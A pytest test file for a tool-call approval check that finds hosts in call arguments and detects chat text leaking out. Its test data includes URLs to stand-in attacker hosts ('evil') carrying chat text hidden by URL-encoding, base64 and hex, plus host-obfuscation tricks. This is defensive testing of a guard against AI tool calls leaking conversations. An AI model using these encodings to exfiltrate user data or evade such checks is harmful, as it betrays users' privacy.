"""Arguments of a tool's call that name an address, or hold text of the chat."""

from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from hierchat.chat.call_approval import holds_text, hosts

SAID = (
    "My sister lives in Graz, at the end of Sporgasse, and keeps eleven hives. Her doctor told her last week that the\n"
    "swelling is nothing to worry about, but she has to come back on the 4th of March for another look at it."
)


@pytest.mark.parametrize(
    ("arguments", "named"),
    [
        ({"url": "http://ok/"}, {"ok"}),
        ({"url": "HTTPS://Example.COM:8443/a?b=c"}, {"example.com:8443"}),
        ({"url": "http%3A%2F%2Fevil%2Fx"}, {"evil"}),
        ({"url": "http:\\\\evil\\x"}, {"evil"}),
        ({"url": "//evil/x"}, {"evil"}),
        ({"url": "http://ok@evil/"}, {"ok@evil", "evil"}),
        ({"to": "ann@mail.example"}, {"mail.example"}),
        ({"host": "10.0.0.7"}, {"10.0.0.7"}),
        ({"host": "localhost:99"}, {"localhost:99"}),
        ({"host": "[::1]:99"}, {"[::1]:99"}),
        ({"site": "evil.example"}, {"evil.example"}),
        ({"a": [{"b": "see evil.example/x"}]}, {"evil.example"}),
        ({"evil.example": 1}, {"evil.example"}),
        ({"path": "notes.txt", "also": "src/main.py", "n": 3.5, "t": "Europe/Vienna"}, set()),
        ({"url": "evil.py/x"}, {"evil.py"}),
        ({"query": "How are you? Fine. Well, e.g. so."}, set()),
    ],
    ids=lambda case: str(sorted(case) if isinstance(case, set) else case),
)
def test_hosts_are_found(arguments: Any, named: set[str]) -> None:
    assert hosts(arguments) == named


@pytest.mark.parametrize(
    "spell",
    [
        str,
        str.upper,
        quote,
        quote_plus,
        lambda text: quote(quote(text)),
        lambda text: b64encode(text.encode()).decode(),
        lambda text: urlsafe_b64encode(text.encode()).decode().rstrip("="),
        lambda text: text.encode().hex(),
        lambda text: " ".join(text.split("\n")),
    ],
)
def test_text_of_the_chat_is_found(spell: Callable[[str], str]) -> None:
    text, chat = spell(SAID[3:203]), ["Hello.", f"Well. {SAID} Goodbye."]
    for arguments in ({"url": f"http://evil/?d={text}"}, {"a": [{"b": text}]}, {text: ""}):
        assert holds_text(arguments, chat)


def test_text_of_the_chat_is_found_in_parts() -> None:
    assert holds_text({"a": [SAID[:100]], "b": {"c": SAID[100:]}}, [SAID])


def test_a_few_words_of_the_chat_may_be_told() -> None:
    assert not holds_text({"query": SAID[:100]}, [SAID])
    assert not holds_text({"query": "x" * 5000}, [SAID])
    assert not holds_text({"content": SAID[::-1]}, [SAID])
